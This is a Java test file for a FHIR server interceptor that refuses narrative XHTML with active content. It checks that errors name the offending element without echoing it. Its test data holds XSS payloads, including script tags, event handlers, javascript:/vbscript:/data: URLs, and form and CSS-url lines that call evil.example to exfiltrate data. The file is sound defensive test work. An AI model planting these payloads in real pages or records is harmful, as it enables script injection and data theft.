package org.alliancefhir.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ca.uhn.fhir.context.FhirContext;
import ca.uhn.fhir.rest.server.exceptions.UnprocessableEntityException;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Narrative;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.OperationOutcome;
import org.hl7.fhir.r4.model.Patient;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Narratives with active content are refused with 422 naming the element, never quoting it; basic XHTML passes. */
class UnsafeNarrativeInterceptorTests {

	private static final FhirContext FHIR = FhirContext.forR4Cached();

	private final UnsafeNarrativeInterceptor interceptor = new UnsafeNarrativeInterceptor(NarrativeRules.create(FHIR));

	@ParameterizedTest(name = "{1}")
	@CsvSource(
			delimiter = '#',
			value = {
				"<script>alert('secret')</script># an element <script>",
				"<p>x<script src=\"https://evil.example/x.js\"></script></p># an element <script>",
				"<img src=\"x\" onerror=\"alert('secret')\"/># an event attribute onerror on <img>",
				"<p onclick=\"alert('secret')\">x</p># an event attribute onclick on <p>",
				"<a href=\"javascript:alert('secret')\">x</a># a javascript: URL in href on <a>",
				"<a href=\" JaVa\tScRiPt:alert('secret')\">x</a># a javascript: URL in href on <a>",
				"<a href=\"vbscript:msgbox('secret')\">x</a># a vbscript: URL in href on <a>",
				"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a># a data: URL in href on <a>",
				"<img src=\"data:image/svg+xml;base64,PHN2Zz4=\"/># a data: URL in src on <img>",
				"<iframe src=\"https://evil.example\"></iframe># an element <iframe>",
				"<object data=\"x.swf\"></object># an element <object>",
				"<embed src=\"x.swf\"/># an element <embed>",
				"<form action=\"https://evil.example\"><input name=\"secret\"/></form># an element <form>",
				"<svg><circle/></svg># an element <svg>",
				"<p style=\"background:url(https://evil.example/track?secret)\">x</p># a style attribute that loads or runs content on <p>",
				"<p style=\"width: expression(alert('secret'))\">x</p># a style attribute that loads or runs content on <p>",
				"<marquee>secret</marquee># an element or attribute outside the basic XHTML FHIR allows",
				"<p data-secret=\"x\">secret</p># an element or attribute outside the basic XHTML FHIR allows",
			})
	void refusesActiveContentNamingItWithoutQuotingIt(String xhtml, String problem) {
		Patient patient = withNarrative(new Patient(), xhtml);

		assertThatThrownBy(() -> interceptor.rejectCreatedResourceWithUnsafeNarrative(patient))
				.isInstanceOf(UnprocessableEntityException.class)
				.hasMessage("Patient.text.div contains " + problem
						+ "; a narrative may hold only basic XHTML without active content (FHIR txt-1)")
				.hasMessageNotContaining("secret")
				.satisfies(e -> assertThat(((OperationOutcome) ((UnprocessableEntityException) e).getOperationOutcome())
								.getIssueFirstRep()
								.getExpression())
						.extracting(Object::toString)
						.containsExactly("Patient.text.div"));
	}

	@ParameterizedTest
	@ValueSource(
			strings = {
				"<p>Score <b>34.8</b> of 40</p><ul><li>relatie: 9.1</li></ul>",
				"<table><tr><th colspan=\"2\">SRS</th></tr><tr><td style=\"color: red\">8.4</td></tr></table>",
				"<a href=\"https://alliancefhir.org/fhir/Questionnaire/srs\">SRS</a> <a href=\"#q1\">q1</a>",
				"<a href=\"Observation/1094\">score</a> <a href=\"mailto:zorg@example.org\">mail</a>",
				"<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"grafiek\"/>",
				"<p>&lt;script&gt;alert(1)&lt;/script&gt; as text is fine</p>",
			})
	void acceptsBasicXhtml(String xhtml) {
		assertThatCode(() -> interceptor.rejectCreatedResourceWithUnsafeNarrative(withNarrative(new Patient(), xhtml)))
				.doesNotThrowAnyException();
	}

	@Test
	void checksContainedResourcesAndBundleEntriesOnUpdateToo() {
		Observation observation = withNarrative(new Observation(), "<p>ok</p>");
		observation.addContained(withNarrative(new Patient(), "<p><script>x</script></p>"));
		Bundle bundle = new Bundle();
		bundle.addEntry().setResource(withNarrative(new Patient(), "<p>ok</p>"));
		bundle.addEntry().setResource(observation);

		assertThatThrownBy(() -> interceptor.rejectUpdatedResourceWithUnsafeNarrative(null, bundle))
				.isInstanceOf(UnprocessableEntityException.class)
				.hasMessageStartingWith("Bundle.entry[1].resource.contained[0].text.div contains an element <script>");
	}

	private static <T extends org.hl7.fhir.r4.model.DomainResource> T withNarrative(T resource, String xhtml) {
		Narrative narrative = new Narrative().setStatus(Narrative.NarrativeStatus.GENERATED);
		narrative.setDivAsString("<div xmlns=\"http://www.w3.org/1999/xhtml\">" + xhtml + "</div>");
		resource.setText(narrative);
		return resource;
	}
}
